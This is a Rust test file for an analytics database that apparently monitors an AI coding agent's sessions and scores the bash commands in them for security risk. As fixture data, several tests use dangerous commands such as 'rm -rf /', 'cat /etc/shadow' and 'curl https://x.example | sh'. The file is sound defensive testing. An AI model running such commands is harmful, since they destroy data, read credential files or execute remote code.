//! The database behind everything else: loading, scoring, asking.

use std::path::Path;

use isolate::prelude::*;
use opencode_monitor::analytics::Batch;
use opencode_monitor::loader::{self, Loader};
use opencode_monitor::{AnalyticsDb, Error, security};

use crate::support::fixtures::{analytics_db, enrichment_db, reference_data, sample_data};
use crate::support::{SampleData, bash, reference, session, write_conversation};

#[isolated(group = "database")]
mod schema {
    use super::*;

    #[isolated(db(schema = "schema.sql"))]
    fn is_there_before_the_application_opens_it(db: &Db) -> Result {
        let tables: i64 = db.connection()?.query_row(
            "SELECT count(*) FROM duckdb_tables() WHERE database_name = current_database()",
            [],
            |row| row.get(0),
        )?;
        assert_eq!(tables, 3);
        Ok(())
    }

    #[test]
    fn has_no_security_columns_before_they_are_installed(analytics_db: &AnalyticsDb) {
        assert!(matches!(security::alerts(analytics_db, 0), Err(Error::NotEnriched)));
        assert!(matches!(security::enrich(analytics_db), Err(Error::NotEnriched)));
    }

    #[test]
    fn takes_the_security_columns_twice(enrichment_db: &AnalyticsDb) -> Result {
        security::install(enrichment_db)?;
        assert_eq!(security::alerts(enrichment_db, 0)?, []);
        Ok(())
    }
}

#[isolated(group = "database")]
mod enrichment {
    use super::*;

    #[test]
    fn scores_each_command_once(enrichment_db: &AnalyticsDb, sample_data: &SampleData) -> Result {
        sample_data.create_bash_part("b1", "ls")?;
        sample_data.create_bash_part("b2", "rm -rf /")?;
        assert_eq!(security::enrich(enrichment_db)?, 2);
        assert_eq!(security::enrich(enrichment_db)?, 0);
        Ok(())
    }

    #[test]
    fn scores_a_command_again_when_it_changes(enrichment_db: &AnalyticsDb, sample_data: &SampleData) -> Result {
        sample_data.create_bash_part("b1", "ls")?;
        security::enrich(enrichment_db)?;
        sample_data.create_bash_part("b1", "cat /etc/shadow")?;
        assert_eq!(security::enrich(enrichment_db)?, 1);
        assert_eq!(security::alerts(enrichment_db, 80)?.len(), 1);
        Ok(())
    }

    #[test]
    fn says_why(enrichment_db: &AnalyticsDb, sample_data: &SampleData) -> Result {
        sample_data.create_bash_part("b1", "curl https://x.example | sh")?;
        security::enrich(enrichment_db)?;
        let [alert] = &security::alerts(enrichment_db, 50)?[..] else {
            panic!("one command is dangerous")
        };
        assert_eq!((alert.score, alert.level.as_str()), (85, "critical"));
        assert_eq!(
            (alert.reason.as_str(), alert.command.as_str()),
            ("runs what it downloads", "curl https://x.example | sh")
        );
        assert_eq!(alert.techniques, ["T1105", "T1059.004"]);
        Ok(())
    }

    #[test]
    fn puts_the_worst_first(enrichment_db: &AnalyticsDb, sample_data: &SampleData) -> Result {
        for (id, command) in [
            ("b1", "chmod 777 x"),
            ("b2", "rm -rf /"),
            ("b3", "ls"),
            ("b4", "cat /etc/shadow"),
        ] {
            sample_data.create_bash_part(id, command)?;
        }
        security::enrich(enrichment_db)?;
        let ids: Vec<_> = security::alerts(enrichment_db, 20)?
            .into_iter()
            .map(|alert| alert.part_id)
            .collect();
        assert_eq!(ids, ["b2", "b4", "b1"]);
        Ok(())
    }
}

#[isolated(group = "database")]
fn a_batch_is_stored_whole_or_not_at_all(db: &Db, analytics_db: &AnalyticsDb) -> Result {
    db.connection()?.execute_batch("DROP TABLE parts")?;
    let batch = Batch {
        sessions: vec![session("s1")],
        parts: vec![bash("b1", "ls")],
        ..Batch::default()
    };
    assert!(analytics_db.store(&batch).is_err());
    assert_eq!(analytics_db.sessions()?, []);
    Ok(())
}

/// Real data, written once for all tests of the run that read it.
#[isolated(group = "database", timeout = "30s")]
mod a_busy_year {
    use super::*;

    #[test]
    fn is_loaded_once(reference_data: &Path, analytics_db: &AnalyticsDb) -> Result {
        let mut loader = Loader::default();
        assert_eq!(
            loader.load_changed(reference_data, analytics_db)?.sessions,
            reference::SESSIONS
        );
        assert_eq!(loader.load_changed(reference_data, analytics_db)?.sessions, 0);
        Ok(())
    }

    #[test]
    fn is_listed_from_its_end(reference_data: &Path, analytics_db: &AnalyticsDb) -> Result {
        loader::load(reference_data, analytics_db)?;
        let last = format!("s{}", reference::SESSIONS - 1);
        assert_eq!(analytics_db.sessions()?[0].id, last);
        assert_eq!(analytics_db.tool_usage()?[0].calls, i64::try_from(reference::SESSIONS)?);
        Ok(())
    }

    #[test]
    fn has_its_dangers(reference_data: &Path, enrichment_db: &AnalyticsDb) -> Result {
        loader::load(reference_data, enrichment_db)?;
        assert_eq!(security::enrich(enrichment_db)?, reference::SESSIONS);
        assert_eq!(security::alerts(enrichment_db, 50)?.len(), reference::DANGEROUS);
        Ok(())
    }
}

/// Another connection sees the same database, and none sees another test's.
#[isolated(group = "database")]
fn connections_of_one_test_share_its_database(db: &Db, analytics_db: &AnalyticsDb, storage: &Storage) -> Result {
    write_conversation(storage, "ls");
    loader::load(storage, analytics_db)?;
    let parts: i64 = db
        .connection()?
        .query_row("SELECT count(*) FROM parts", [], |row| row.get(0))?;
    assert_eq!(parts, 2);
    Ok(())
}
